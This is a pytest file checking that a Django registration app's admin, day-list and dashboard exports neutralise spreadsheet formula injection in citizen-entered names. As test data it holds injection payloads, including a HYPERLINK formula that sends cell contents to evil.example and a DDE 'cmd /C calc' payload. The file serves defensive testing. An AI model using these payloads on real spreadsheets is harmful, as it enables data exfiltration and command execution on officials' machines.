"""A name a citizen typed cannot become a live formula in an official's
spreadsheet: in every export (the admin's XLSX and CSV, the day list's XLSX,
the dashboard's CSV and XLSX). The oracle is the file itself: the XLSX's
sheet XML has no formula element, every CSV cell that starts like a formula
starts with an apostrophe."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from districts import roles

from .conftest import rows_in, staff_user

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _xlsx_formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>", book.read(n).decode())]


def _xlsx_values(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [c.value for row in sheet.iter_rows() for c in row]


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_live_formula_in_csv(cells: list[str]) -> None:
    assert [c for c in cells if c.startswith(STARTS)] == []


@pytest.fixture
def named_rows(raipur_village):
    made = []
    for name in FORMULAS:
        rows = rows_in(raipur_village)
        rows.registration.name = name
        rows.registration.save()
        made.append(rows)
    return made


def _admin_export(client, fmt: str):
    return client.post(
        reverse("admin:registrations_registration_export"),
        {
            "format": fmt,
            "resource": "0",
            **{f"registrationexportresource_{f}": "on" for f in ("reference", "name", "mobile")},
        },
    )


def test_the_admins_xlsx_export_keeps_names_as_text(client, raipur_official, named_rows):
    client.force_login(raipur_official)
    response = _admin_export(client, "0")
    assert response.status_code == 200
    assert _xlsx_formulas(response.content) == []
    values = _xlsx_values(response.content)
    assert all(name in values for name in FORMULAS)


def test_the_admins_csv_export_neutralises_formulas(client, raipur_official, named_rows):
    client.force_login(raipur_official)
    response = _admin_export(client, "1")
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    _assert_no_live_formula_in_csv(cells)
    assert all(f"'{name}" in cells for name in FORMULAS)


def test_the_day_list_xlsx_keeps_names_as_text(client, raipur_official, raipur_village):
    rows = rows_in(raipur_village)
    rows.registration.name = FORMULAS[0]
    rows.registration.save()
    client.force_login(raipur_official)
    response = client.get(reverse("admin:slots_session_day_list_xlsx", args=[rows.session.pk]))
    assert _xlsx_formulas(response.content) == []
    assert FORMULAS[0] in _xlsx_values(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_dashboards_downloads_keep_place_names_as_text(client, raipur, fmt):
    area = raipur.areas.first()
    area.name_en = FORMULAS[0]
    area.save()
    client.force_login(staff_user("health-downloads", roles.HEALTH_DEPARTMENT, raipur))
    response = client.get(f"/dashboard/export/places.{fmt}", {"district": raipur.pk})
    shown = f"{area.name} ({area.get_kind_display()})"  # as the dashboard names an area
    assert response.status_code == 200
    if fmt == "csv":
        cells = _csv_cells(response.content)
        _assert_no_live_formula_in_csv(cells)
        assert f"'{shown}" in cells
    else:
        assert _xlsx_formulas(response.content) == []
        assert shown in _xlsx_values(response.content)
